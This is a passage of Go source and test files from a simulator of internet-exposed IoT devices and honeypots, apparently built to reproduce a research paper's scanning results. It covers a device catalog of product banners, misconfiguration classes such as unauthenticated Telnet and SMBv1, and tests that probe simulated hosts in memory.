		t.Fatalf("body %q", body)
	}
}

func TestDeviceHostUPnPConfiguredSilent(t *testing.T) {
	u := testUniverse(500)
	spec := findSpec(t, u, ProtoUPnP, func(s DeviceSpec) bool {
		return s.Misconfig == MisconfigNone
	})
	host := u.Host(spec.IP)
	handler := host.DatagramService(1900)
	if handler == nil {
		t.Fatal("upnp port closed")
	}
	if resp := handler.HandleDatagram(netsim.Endpoint{IP: 1, Port: 1}, upnp.BuildMSearch("ssdp:all")); resp != nil {
		t.Fatal("configured device answered WAN discovery")
	}
}

func TestWildHoneypotShadowsDevices(t *testing.T) {
	u := NewUniverse(UniverseConfig{
		Seed: 11, Prefix: netsim.MustParsePrefix("100.0.0.0/12"), DensityBoost: 2000,
	})
	prefix := u.Config().Prefix
	found := 0
	famCounts := make(map[string]int)
	for i := uint64(0); i < prefix.Size() && found < 50; i += 7 {
		ip := prefix.Nth(i)
		if fam, ok := u.WildHoneypot(ip); ok {
			found++
			famCounts[fam.Name]++
			host := u.Host(ip)
			handler := host.StreamService(23)
			if handler == nil {
				t.Fatal("honeypot has no telnet service")
			}
		}
	}
	if found < 10 {
		t.Fatalf("only %d wild honeypots found", found)
	}
	// Anglerfish and Cowrie dominate Table 6; together they should be the
	// majority of any decent sample.
	if famCounts["Anglerfish"]+famCounts["Cowrie"] < found/2 {
		t.Fatalf("family mix off: %v", famCounts)
	}
}

func TestHoneypotFamiliesMatchTable6(t *testing.T) {
	total := 0
	for _, f := range HoneypotFamilies {
		total += f.PaperCount
		if len(f.Banner) == 0 {
			t.Errorf("%s has empty banner", f.Name)
		}
	}
	if total != PaperHoneypotTotal {
		t.Fatalf("family counts sum %d, want %d", total, PaperHoneypotTotal)
	}
}

func TestPaperTablesConsistent(t *testing.T) {
	mis := PaperMisconfiguredCounts()
	var total int
	for _, n := range mis {
		total += n
	}
	if total != 1832893 {
		t.Fatalf("Table 5 total %d, want 1,832,893", total)
	}
	exp := PaperExposedCounts()
	sum := 0
	for _, n := range exp {
		sum += n
	}
	if sum != 14397929 {
		t.Fatalf("Table 4 total %d, want 14,397,929", sum)
	}
}

func TestProtocolHelpers(t *testing.T) {
	if ProtoTelnet.DefaultPort() != 23 || ProtoCoAP.DefaultPort() != 5683 {
		t.Fatal("ports wrong")
	}
	if ProtoCoAP.Transport() != netsim.UDP || ProtoMQTT.Transport() != netsim.TCP {
		t.Fatal("transports wrong")
	}
	if len(ScannedProtocols) != 6 {
		t.Fatal("scanned protocol count")
	}
}

func TestModelsForAndFindModel(t *testing.T) {
	telnetModels := ModelsFor(ProtoTelnet)
	if len(telnetModels) < 10 {
		t.Fatalf("only %d telnet models", len(telnetModels))
	}
	m, ok := FindModel("HiKVision Camera")
	if !ok || m.Type != TypeCamera {
		t.Fatalf("FindModel: %+v, %v", m, ok)
	}
	if _, ok := FindModel("nonexistent"); ok {
		t.Fatal("phantom model")
	}
}

func TestMisconfigStringAndProtocol(t *testing.T) {
	if TelnetNoAuthRoot.String() != "No auth, root access" {
		t.Fatal(TelnetNoAuthRoot.String())
	}
	if CoAPReflector.Protocol() != ProtoCoAP || UPnPReflector.Protocol() != ProtoUPnP {
		t.Fatal("protocol mapping wrong")
	}
	if MisconfigNone.Protocol() != "" {
		t.Fatal("none has a protocol")
	}
}

func BenchmarkSpecDerivation(b *testing.B) {
	u := testUniverse(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_, _ = u.Spec(netsim.IPv4(uint32(i)), ProtoTelnet)
	}
}

func BenchmarkHostLookup(b *testing.B) {
	u := testUniverse(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = u.Host(netsim.MustParseIPv4("100.0.0.0") + netsim.IPv4(uint32(i)%65536))
	}
}
