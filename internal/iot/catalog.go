// Package iot defines the simulated IoT device population: the device-model
// catalog whose banners reproduce the paper's Table 11 identifiers, the
// per-protocol misconfiguration model of Tables 2/3/5, and the lazy
// population generator that turns a (seed, IP) pair into a live simulated
// host.
package iot

import "openhire/internal/netsim"

// Protocol names the six scanned protocols plus the honeypot-side extras.
type Protocol string

// Scanned protocols (the paper's six) and honeypot-side protocols.
const (
	ProtoTelnet Protocol = "telnet"
	ProtoMQTT   Protocol = "mqtt"
	ProtoCoAP   Protocol = "coap"
	ProtoAMQP   Protocol = "amqp"
	ProtoXMPP   Protocol = "xmpp"
	ProtoUPnP   Protocol = "upnp"

	ProtoSSH    Protocol = "ssh"
	ProtoHTTP   Protocol = "http"
	ProtoFTP    Protocol = "ftp"
	ProtoSMB    Protocol = "smb"
	ProtoModbus Protocol = "modbus"
	ProtoS7     Protocol = "s7"
)

// ScannedProtocols lists the paper's six scan targets in Table 4 order.
var ScannedProtocols = []Protocol{
	ProtoAMQP, ProtoXMPP, ProtoCoAP, ProtoUPnP, ProtoMQTT, ProtoTelnet,
}

// DefaultPort returns the primary port for a protocol.
func (p Protocol) DefaultPort() uint16 {
	switch p {
	case ProtoTelnet:
		return 23
	case ProtoMQTT:
		return 1883
	case ProtoCoAP:
		return 5683
	case ProtoAMQP:
		return 5672
	case ProtoXMPP:
		return 5222
	case ProtoUPnP:
		return 1900
	case ProtoSSH:
		return 22
	case ProtoHTTP:
		return 80
	case ProtoFTP:
		return 21
	case ProtoSMB:
		return 445
	case ProtoModbus:
		return 502
	case ProtoS7:
		return 102
	case ProtoTR069:
		return 7547
	default:
		return 0
	}
}

// Transport returns whether the protocol probes run over TCP or UDP.
func (p Protocol) Transport() netsim.Transport {
	switch p {
	case ProtoCoAP, ProtoUPnP:
		return netsim.UDP
	default:
		return netsim.TCP
	}
}

// DeviceType buckets models the way Figure 2 and Table 11 do.
type DeviceType string

// Device types from Table 11.
const (
	TypeCamera        DeviceType = "Camera"
	TypeDSLModem      DeviceType = "DSL Modem"
	TypeRouter        DeviceType = "Router"
	TypeSmartHome     DeviceType = "Smart Home"
	TypeTVReceiver    DeviceType = "TV Receiver"
	TypeAccessPoint   DeviceType = "Access Point"
	TypeNAS           DeviceType = "NAS"
	TypeSmartSpeaker  DeviceType = "Smart Speaker"
	TypePrinter3D     DeviceType = "3D Printer"
	TypeHVAC          DeviceType = "HVAC"
	TypeDisplayUnit   DeviceType = "Remote Display Unit"
	TypeGenericServer DeviceType = "Server" // non-IoT host
)

// DeviceModel is one catalog entry: a concrete product whose banner or
// response identifies it. Identifier is the Table 11 matching substring.
type DeviceModel struct {
	Name       string
	Type       DeviceType
	Protocol   Protocol
	Identifier string // substring scanners match to tag the type

	// Telnet persona.
	TelnetBanner string // pre-login banner or login prompt
	TelnetPrompt string // post-auth shell prompt for misconfigured units

	// UPnP persona.
	UPnPServer   string
	UPnPFriendly string
	UPnPModel    string
	UPnPManuf    string

	// MQTT persona: a retained topic prefix that identifies the device.
	MQTTTopic string

	// CoAP persona: a characteristic resource path.
	CoAPResource string

	// Weight sets relative population share within the protocol.
	Weight float64
}

// Catalog reproduces the paper's Table 11 device identifiers, with weights
// chosen so cameras and routers dominate Telnet/UPnP identifications as in
// Figure 2.
var Catalog = []DeviceModel{
	// ----- Telnet devices (Table 11 rows) -----
	{Name: "HiKVision Camera", Type: TypeCamera, Protocol: ProtoTelnet,
		Identifier: "192.0.0.64 login:", TelnetBanner: "192.0.0.64 login: ",
		TelnetPrompt: "root@hikvision:~$ ", Weight: 30},
	{Name: "Polycom HDX", Type: TypeCamera, Protocol: ProtoTelnet,
		Identifier: "Welcome to ViewStation", TelnetBanner: "Welcome to ViewStation\r\n",
		TelnetPrompt: "$ ", Weight: 6},
	{Name: "D-Link DCS-6620", Type: TypeCamera, Protocol: ProtoTelnet,
		Identifier: "Welcome to DCS-6620", TelnetBanner: "Welcome to DCS-6620\r\n",
		TelnetPrompt: "$ ", Weight: 8},
	{Name: "D-Link DCS-5220", Type: TypeCamera, Protocol: ProtoTelnet,
		Identifier: "Network-Camera login:", TelnetBanner: "Network-Camera login: ",
		TelnetPrompt: "$ ", Weight: 8},
	{Name: "ZyXEL PK5001Z", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "PK5001Z login", TelnetBanner: "PK5001Z login: ",
		TelnetPrompt: "admin@PK5001Z:~$ ", Weight: 12},
	{Name: "ZTE ZXHN H108N", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "Welcome to the world of CLI", TelnetBanner: "Welcome to the world of CLI\r\n",
		TelnetPrompt: "$ ", Weight: 7},
	{Name: "Technicolor modem", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "TG234 login:", TelnetBanner: "TG234 login: ",
		TelnetPrompt: "$ ", Weight: 5},
	{Name: "ZTE ZXV10", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "F670L Login", TelnetBanner: "F670L Login: ",
		TelnetPrompt: "$ ", Weight: 5},
	{Name: "Datacom DM991", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "DM991CR - G.SHDSL Modem Router", TelnetBanner: "DM991CR - G.SHDSL Modem Router\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 3},
	{Name: "TP-Link TD-W8960N", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "TD-W8960N 6.0 DSL Modem", TelnetBanner: "TD-W8960N 6.0 DSL Modem\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 5},
	{Name: "Cisco C111-4P", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "MODEM : C111-4P", TelnetBanner: "MODEM : C111-4P\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 3},
	{Name: "TP-Link TD-W8968", Type: TypeDSLModem, Protocol: ProtoTelnet,
		Identifier: "TD-W8968 4.0 DSL Modem Router", TelnetBanner: "TD-W8968 4.0 DSL Modem Router\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 4},
	{Name: "BelAir 100N", Type: TypeRouter, Protocol: ProtoTelnet,
		Identifier:   "BelAir100N - BelAir Backhaul and Access Wireless Router",
		TelnetBanner: "BelAir100N - BelAir Backhaul and Access Wireless Router\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 6},
	{Name: "Home Assistant", Type: TypeSmartHome, Protocol: ProtoTelnet,
		Identifier:   "Home Assistant: Installation Type: Home Assistant OS",
		TelnetBanner: "Home Assistant: Installation Type: Home Assistant OS\r\n",
		TelnetPrompt: "$ ", Weight: 4},
	{Name: "Dedicated Micros DS2", Type: TypeTVReceiver, Protocol: ProtoTelnet,
		Identifier:   "Welcome to the DS2 command line processor",
		TelnetBanner: "Welcome to the DS2 command line processor\r\n",
		TelnetPrompt: "$ ", Weight: 3},
	{Name: "Emerson Display", Type: TypeDisplayUnit, Protocol: ProtoTelnet,
		Identifier:   "Emerson Network Power Co., Ltd.",
		TelnetBanner: "Emerson Network Power Co., Ltd.\r\nlogin: ",
		TelnetPrompt: "$ ", Weight: 2},

	// ----- UPnP devices -----
	{Name: "Avtech AVN801", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier:   "Linux/2.x UPnP/1.0 Avtech/1.0",
		UPnPServer:   "Linux/2.x UPnP/1.0 Avtech/1.0",
		UPnPFriendly: "AVN801 Network Camera", UPnPModel: "AVN801", UPnPManuf: "AVTECH", Weight: 14},
	{Name: "Panasonic BB-HCM581", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "Network Camera BB-HCM581",
		UPnPServer: "Panasonic UPnP/1.0", UPnPFriendly: "Network Camera BB-HCM581",
		UPnPModel: "BB-HCM581", UPnPManuf: "Panasonic", Weight: 7},
	{Name: "Anbash NC336FG", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "NC336FG", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "IP Camera", UPnPModel: "NC336FG", UPnPManuf: "Anbash", Weight: 5},
	{Name: "Beward N100", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "N100 H.264 IP Camera", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "N100 H.264 IP Camera - 004B1000E3E2", UPnPModel: "N100",
		UPnPManuf: "Beward", Weight: 5},
	{Name: "Io Data TS-WLC2", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "TS-WLC2", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "TS-WLC2", UPnPModel: "TS-WLC2", UPnPManuf: "I-O DATA", Weight: 4},
	{Name: "G-Cam EFD-4430", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "G-Cam/EFD-4430", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "G-Cam/EFD-4430", UPnPModel: "EFD-4430", UPnPManuf: "G-Cam", Weight: 3},
	{Name: "Seyeon Tech FW7511-TVM", Type: TypeCamera, Protocol: ProtoUPnP,
		Identifier: "FW7511-TVM", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "FlexWATCH", UPnPModel: "FW7511-TVM", UPnPManuf: "Seyeon Tech", Weight: 3},
	{Name: "Tenda Wireless Router", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "Manufacturer: Tenda", UPnPServer: "Linux UPnP/1.0 miniupnpd/1.0",
		UPnPFriendly: "Tenda Wireless Router", UPnPModel: "W268R", UPnPManuf: "Tenda", Weight: 10},
	{Name: "Totolink N150", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "TOTOLINK N150RA", UPnPServer: "Linux UPnP/1.0 miniupnpd/1.0",
		UPnPFriendly: "TOTOLINK N150RA", UPnPModel: "N150RA", UPnPManuf: "TOTOLINK", Weight: 6},
	{Name: "ZTE H108N", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "Model Name: H108N", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "ZXHN H108N", UPnPModel: "H108N", UPnPManuf: "ZTE", Weight: 8},
	{Name: "OBSERVA BHS_RTA", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "BHS_RTA", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "BHS_RTA", UPnPModel: "BHS_RTA", UPnPManuf: "OBSERVA", Weight: 4},
	{Name: "DASAN H660GM", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "H660GM", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "H660GM", UPnPModel: "H660GM", UPnPManuf: "DASAN", Weight: 4},
	{Name: "Huawei HG532e", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "HG532e", UPnPServer: "Linux UPnP/1.0 miniupnpd/1.0",
		UPnPFriendly: "HG532e Home Gateway", UPnPModel: "HG532e", UPnPManuf: "Huawei", Weight: 8},
	{Name: "ASUSTeK RT-AC53", Type: TypeRouter, Protocol: ProtoUPnP,
		Identifier: "RT-AC53", UPnPServer: "ASUSTeK UPnP/1.1 MiniUPnPd/1.9",
		UPnPFriendly: "RT-AC53", UPnPModel: "RT-AC53", UPnPManuf: "ASUSTeK", Weight: 6},
	{Name: "Philips hue bridge", Type: TypeSmartHome, Protocol: ProtoUPnP,
		Identifier: "Philips hue bridge 2015", UPnPServer: "Linux/3.14 UPnP/1.0 IpBridge/1.26",
		UPnPFriendly: "Philips hue", UPnPModel: "Philips hue bridge 2015",
		UPnPManuf: "Signify", Weight: 5},
	{Name: "EQ3 HomeMatic", Type: TypeSmartHome, Protocol: ProtoUPnP,
		Identifier: "HomeMatic Central", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "HomeMatic Central", UPnPModel: "HomeMatic Central",
		UPnPManuf: "eQ-3", Weight: 3},
	{Name: "Hyperion Ambient Light", Type: TypeSmartHome, Protocol: ProtoUPnP,
		Identifier: "Hyperion/2.0 UPnP/1.0", UPnPServer: "Hyperion/2.0 UPnP/1.0",
		UPnPFriendly: "Hyperion", UPnPModel: "Hyperion 2.0.0", UPnPManuf: "Hyperion", Weight: 2},
	{Name: "Emby DS720plus", Type: TypeTVReceiver, Protocol: ProtoUPnP,
		Identifier: "Emby - DS720plus", UPnPServer: "UPnP/1.0 DLNADOC/1.50",
		UPnPFriendly: "Emby - DS720plus", UPnPModel: "Emby Server", UPnPManuf: "Emby", Weight: 3},
	{Name: "Roku", Type: TypeTVReceiver, Protocol: ProtoUPnP,
		Identifier: "Roku UPnP/1.0 MiniUPnPd/1.4", UPnPServer: "Roku UPnP/1.0 MiniUPnPd/1.4",
		UPnPFriendly: "Roku Streaming Player", UPnPModel: "Roku 4", UPnPManuf: "Roku", Weight: 4},
	{Name: "Realtek RTL8671", Type: TypeAccessPoint, Protocol: ProtoUPnP,
		Identifier: "RTL8671", UPnPServer: "Linux UPnP/1.0",
		UPnPFriendly: "Realtek AP", UPnPModel: "RTL8671", UPnPManuf: "Realtek", Weight: 4},
	{Name: "Synology DS918+", Type: TypeNAS, Protocol: ProtoUPnP,
		Identifier: "DiskStation (DS918+)", UPnPServer: "Synology/DSM/6.2",
		UPnPFriendly: "DiskStation (DS918+)", UPnPModel: "DS918+", UPnPManuf: "Synology", Weight: 3},
	{Name: "Sonos ZP100", Type: TypeSmartSpeaker, Protocol: ProtoUPnP,
		Identifier: "Model Number: ZP120", UPnPServer: "Linux UPnP/1.0 Sonos/57.3",
		UPnPFriendly: "Sonos Play:1", UPnPModel: "ZP120", UPnPManuf: "Sonos", Weight: 3},
	{Name: "Trimble SPS855", Type: TypeDisplayUnit, Protocol: ProtoUPnP,
		Identifier: "SPS855, 6013R31531: Trimble", UPnPServer: "Trimble UPnP/1.0",
		UPnPFriendly: "SPS855, 6013R31531: Trimble", UPnPModel: "SPS855",
		UPnPManuf: "Trimble", Weight: 1},

	// ----- MQTT devices -----
	{Name: "Home Assistant (MQTT)", Type: TypeSmartHome, Protocol: ProtoMQTT,
		Identifier: "homeassistant/light/", MQTTTopic: "homeassistant/light/kitchen/state", Weight: 30},
	{Name: "Octoprint", Type: TypePrinter3D, Protocol: ProtoMQTT,
		Identifier: "octoPrint/temperature/bed", MQTTTopic: "octoPrint/temperature/bed", Weight: 12},
	{Name: "Gozmart HVAC", Type: TypeHVAC, Protocol: ProtoMQTT,
		Identifier: "gozmart/", MQTTTopic: "gozmart/sonoff/CC50E3C943CC110511/app", Weight: 10},
	{Name: "Advantech HVAC", Type: TypeHVAC, Protocol: ProtoMQTT,
		Identifier: "Advantech/", MQTTTopic: "Advantech/00D0C9FAC3D9/data", Weight: 8},
	{Name: "Generic Mosquitto broker", Type: TypeGenericServer, Protocol: ProtoMQTT,
		Identifier: "$SYS/broker/version", MQTTTopic: "$SYS/broker/version", Weight: 40},

	// ----- CoAP devices -----
	{Name: "NDM Router", Type: TypeRouter, Protocol: ProtoCoAP,
		Identifier: "/ndm/login", CoAPResource: "/ndm/login", Weight: 45},
	{Name: "QLink Router", Type: TypeRouter, Protocol: ProtoCoAP,
		Identifier: "/qlink/ack", CoAPResource: "/qlink/ack", Weight: 25},
	{Name: "Generic CoAP sensor", Type: TypeSmartHome, Protocol: ProtoCoAP,
		Identifier: "/sensors/", CoAPResource: "/sensors/temperature", Weight: 30},

	// ----- XMPP and AMQP endpoints (type not identifiable, Section 4.1.2) -----
	{Name: "Generic XMPP server", Type: TypeGenericServer, Protocol: ProtoXMPP,
		Identifier: "jabber", Weight: 100},
	{Name: "Generic AMQP broker", Type: TypeGenericServer, Protocol: ProtoAMQP,
		Identifier: "RabbitMQ", Weight: 100},
}

// ModelsFor returns the catalog entries for one protocol.
func ModelsFor(p Protocol) []DeviceModel {
	var out []DeviceModel
	for _, m := range Catalog {
		if m.Protocol == p {
			out = append(out, m)
		}
	}
	return out
}

// FindModel returns the catalog entry with the given name.
func FindModel(name string) (DeviceModel, bool) {
	for _, m := range Catalog {
		if m.Name == name {
			return m, true
		}
	}
	return DeviceModel{}, false
}
