package iot

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/tr069"
	"openhire/internal/protocols/xmpp"
)

func specFor(misconfig Misconfig, proto Protocol, model string) DeviceSpec {
	m, _ := FindModel(model)
	return DeviceSpec{
		IP: netsim.MustParseIPv4("100.0.0.9"), Protocol: proto, Model: m,
		Misconfig: misconfig, Username: "admin", Password: "s3cret",
	}
}

func TestTelnetConfigVariants(t *testing.T) {
	root := TelnetConfig(specFor(TelnetNoAuthRoot, ProtoTelnet, "HiKVision Camera"))
	if root.Auth != telnet.AuthNoneRoot || !strings.Contains(root.ShellPrompt, "root@") {
		t.Fatalf("root config %+v", root)
	}
	open := TelnetConfig(specFor(TelnetNoAuth, ProtoTelnet, "Polycom HDX"))
	if open.Auth != telnet.AuthNone || open.ShellPrompt != "$ " {
		t.Fatalf("open config %+v", open)
	}
	gated := TelnetConfig(specFor(MisconfigNone, ProtoTelnet, "ZyXEL PK5001Z"))
	if gated.Auth != telnet.AuthLogin || gated.Credentials["admin"] != "s3cret" {
		t.Fatalf("gated config %+v", gated)
	}
	// Root prompt falls back to a synthesized one when the model has none.
	spec := specFor(TelnetNoAuthRoot, ProtoTelnet, "Polycom HDX")
	spec.Model.TelnetPrompt = "$ "
	cfg := TelnetConfig(spec)
	if !strings.HasPrefix(cfg.ShellPrompt, "root@device-") {
		t.Fatalf("fallback prompt %q", cfg.ShellPrompt)
	}
}

func TestMQTTBrokerVariants(t *testing.T) {
	open := MQTTBroker(specFor(MQTTNoAuth, ProtoMQTT, "Octoprint"))
	if _, ok := open.RetainedValue("octoPrint/temperature/bed"); !ok {
		t.Fatal("identifying topic not retained")
	}
	gated := MQTTBroker(specFor(MisconfigNone, ProtoMQTT, "Octoprint"))
	_ = gated // RequireAuth is internal; behaviour checked via scan tests
}

func TestAMQPConfigVariants(t *testing.T) {
	vuln := AMQPConfig(specFor(AMQPNoAuth, ProtoAMQP, "Generic AMQP broker"))
	if !amqp.KnownVulnerableVersions[vuln.Properties.Version] {
		t.Fatalf("vulnerable broker runs %s", vuln.Properties.Version)
	}
	if vuln.RequireAuth {
		t.Fatal("vulnerable broker requires auth")
	}
	ok := AMQPConfig(specFor(MisconfigNone, ProtoAMQP, "Generic AMQP broker"))
	if !ok.RequireAuth || amqp.KnownVulnerableVersions[ok.Properties.Version] {
		t.Fatalf("configured broker %+v", ok.Properties)
	}
	// Version alternates by address parity.
	spec := specFor(AMQPNoAuth, ProtoAMQP, "Generic AMQP broker")
	spec.IP++
	other := AMQPConfig(spec)
	if other.Properties.Version == vuln.Properties.Version {
		t.Fatal("version does not vary")
	}
}

func TestXMPPConfigVariants(t *testing.T) {
	anon := XMPPConfig(specFor(XMPPAnonymous, ProtoXMPP, "Generic XMPP server"))
	if !anon.AllowAnonymous || !hasMech(anon.Features, "ANONYMOUS") {
		t.Fatalf("anon config %+v", anon.Features)
	}
	plain := XMPPConfig(specFor(XMPPNoEncryption, ProtoXMPP, "Generic XMPP server"))
	if plain.AllowAnonymous || !hasMech(plain.Features, "PLAIN") || plain.Features.RequireTLS {
		t.Fatalf("plain config %+v", plain.Features)
	}
	secure := XMPPConfig(specFor(MisconfigNone, ProtoXMPP, "Generic XMPP server"))
	if !secure.Features.RequireTLS || hasMech(secure.Features, "PLAIN") {
		t.Fatalf("secure config %+v", secure.Features)
	}
}

func hasMech(f xmpp.Features, m string) bool {
	return f.HasMechanism(m)
}

func TestCoAPConfigVariants(t *testing.T) {
	admin := CoAPConfig(specFor(CoAPNoAuthAdmin, ProtoCoAP, "NDM Router"))
	if admin.Banner != "220-Admin " {
		t.Fatalf("admin banner %q", admin.Banner)
	}
	open := CoAPConfig(specFor(CoAPNoAuth, ProtoCoAP, "NDM Router"))
	if open.Banner != "220 " && open.Banner != "x1C " {
		t.Fatalf("open banner %q", open.Banner)
	}
	reflector := CoAPConfig(specFor(CoAPReflector, ProtoCoAP, "NDM Router"))
	if reflector.Banner != "" {
		t.Fatalf("reflector banner %q", reflector.Banner)
	}
	// The model's characteristic resource is present.
	found := false
	for _, r := range reflector.Resources {
		if r.Path == "/ndm/login" {
			found = true
		}
	}
	if !found {
		t.Fatal("model resource missing")
	}
}

func TestTR069AndSMBConfigs(t *testing.T) {
	open := TR069Config(DeviceSpec{IP: 5, Misconfig: TR069NoAuth})
	if open.RequireAuth {
		t.Fatal("no-auth endpoint requires auth")
	}
	gated := TR069Config(DeviceSpec{IP: 5, Misconfig: MisconfigNone})
	if !gated.RequireAuth {
		t.Fatal("configured endpoint does not require auth")
	}
	if open.ServerBanner == "" {
		t.Fatal("no banner")
	}
	v1 := SMBConfig(DeviceSpec{Misconfig: SMBv1Enabled})
	if v1.Dialect != "NT LM 0.12" {
		t.Fatalf("v1 dialect %q", v1.Dialect)
	}
	v2 := SMBConfig(DeviceSpec{Misconfig: MisconfigNone})
	if v2.Dialect != "SMB 2.002" {
		t.Fatalf("v2 dialect %q", v2.Dialect)
	}
}

func TestExtensionSpecDensity(t *testing.T) {
	u := NewUniverse(UniverseConfig{
		Seed: 9, Prefix: netsim.MustParsePrefix("100.0.0.0/16"), DensityBoost: 50,
	})
	count := 0
	prefix := u.Config().Prefix
	for i := uint64(0); i < prefix.Size(); i++ {
		if _, ok := u.ExtensionSpec(prefix.Nth(i), ProtoTR069); ok {
			count++
		}
	}
	want := u.ExpectedExtensionExposed(ProtoTR069)
	if float64(count) < want*0.85 || float64(count) > want*1.15 {
		t.Fatalf("tr069 exposure %d, expected ~%.0f", count, want)
	}
	if _, ok := u.ExtensionSpec(netsim.MustParseIPv4("200.0.0.1"), ProtoTR069); ok {
		t.Fatal("extension spec outside prefix")
	}
	if _, ok := u.ExtensionSpec(prefix.Nth(0), ProtoTelnet); ok {
		t.Fatal("non-extension protocol accepted")
	}
}

func TestDeviceHostServesExtensionProtocols(t *testing.T) {
	u := NewUniverse(UniverseConfig{
		Seed: 9, Prefix: netsim.MustParsePrefix("100.0.0.0/16"), DensityBoost: 50,
	})
	prefix := u.Config().Prefix
	var ip netsim.IPv4
	var spec DeviceSpec
	found := false
	for i := uint64(0); i < prefix.Size(); i++ {
		if s, ok := u.ExtensionSpec(prefix.Nth(i), ProtoTR069); ok {
			if _, isPot := u.WildHoneypot(prefix.Nth(i)); isPot {
				continue
			}
			ip, spec, found = prefix.Nth(i), s, true
			break
		}
	}
	if !found {
		t.Fatal("no tr069 host")
	}
	host := u.Host(ip)
	handler := host.StreamService(7547)
	if handler == nil {
		t.Fatal("tr069 port closed")
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: 1, Port: 1}, netsim.Endpoint{IP: ip, Port: 7547}, time.Now())
	go func() {
		defer server.Close()
		handler.Serve(context.Background(), server)
	}()
	defer client.Close()
	pr, err := tr069.Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if pr.Unauthenticated != (spec.Misconfig == TR069NoAuth) {
		t.Fatalf("auth posture mismatch: %+v vs %v", pr, spec.Misconfig)
	}
}

func TestDeviceHostClosedPorts(t *testing.T) {
	u := testUniverse(500)
	spec := findSpec(t, u, ProtoTelnet, func(s DeviceSpec) bool { return true })
	host := u.Host(spec.IP)
	if host.StreamService(9999) != nil {
		t.Fatal("phantom TCP service")
	}
	if host.DatagramService(9999) != nil {
		t.Fatal("phantom UDP service")
	}
	// TCP port requested over UDP and vice versa.
	if host.DatagramService(u.TelnetPort(spec.IP)) != nil {
		t.Fatal("telnet served over UDP")
	}
}

func TestSMBHostNegotiatesDialect(t *testing.T) {
	u := NewUniverse(UniverseConfig{
		Seed: 9, Prefix: netsim.MustParsePrefix("100.0.0.0/15"), DensityBoost: 400,
	})
	prefix := u.Config().Prefix
	for i := uint64(0); i < prefix.Size(); i++ {
		ip := prefix.Nth(i)
		spec, ok := u.ExtensionSpec(ip, ProtoSMB)
		if !ok {
			continue
		}
		if _, isPot := u.WildHoneypot(ip); isPot {
			continue
		}
		host := u.Host(ip)
		handler := host.StreamService(445)
		if handler == nil {
			t.Fatal("smb port closed")
		}
		client, server := netsim.NewServiceConnPair(
			netsim.Endpoint{IP: 1, Port: 1}, netsim.Endpoint{IP: ip, Port: 445}, time.Now())
		go func() {
			defer server.Close()
			handler.Serve(context.Background(), server)
		}()
		dialect, err := smb.Probe(client, time.Second)
		client.Close()
		if err != nil {
			t.Fatal(err)
		}
		wantV1 := spec.Misconfig == SMBv1Enabled
		if (dialect == "NT LM 0.12") != wantV1 {
			t.Fatalf("dialect %q for misconfig %v", dialect, spec.Misconfig)
		}
		return
	}
	t.Fatal("no smb host found")
}
