package iot

import (
	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// Extension protocols: the paper's stated future work (Section 6) extends
// the scan scope to TR-069 and SMB. They live outside ScannedProtocols so
// the Table 4/5 calibration is untouched; the extended scanner opts in.
const (
	ProtoTR069 Protocol = "tr069"
)

// ExtensionProtocols lists the future-work scan targets.
var ExtensionProtocols = []Protocol{ProtoTR069, ProtoSMB}

// Extension misconfiguration classes.
const (
	// TR069NoAuth: the CWMP connection-request endpoint answers without
	// digest authentication — remote takeover surface.
	TR069NoAuth Misconfig = 100 + iota
	// SMBv1Enabled: the host still negotiates the SMB1 dialect —
	// EternalBlue-class exposure.
	SMBv1Enabled
)

// extensionString extends Misconfig.String for the new classes; wired in
// via the switch below.
func extensionString(m Misconfig) (string, bool) {
	switch m {
	case TR069NoAuth:
		return "No auth, connection request", true
	case SMBv1Enabled:
		return "SMBv1 enabled", true
	default:
		return "", false
	}
}

// extensionProtocol extends Misconfig.Protocol for the new classes.
func extensionProtocol(m Misconfig) (Protocol, bool) {
	switch m {
	case TR069NoAuth:
		return ProtoTR069, true
	case SMBv1Enabled:
		return ProtoSMB, true
	default:
		return "", false
	}
}

// Extension exposure densities. TR-069 exposure is calibrated to the
// published estimates of WAN-reachable CWMP endpoints (tens of millions in
// 2016; a conservative 20M here); SMB to the ~1M open 445 ports long
// reported by scanning services.
var extensionDensity = map[Protocol]float64{
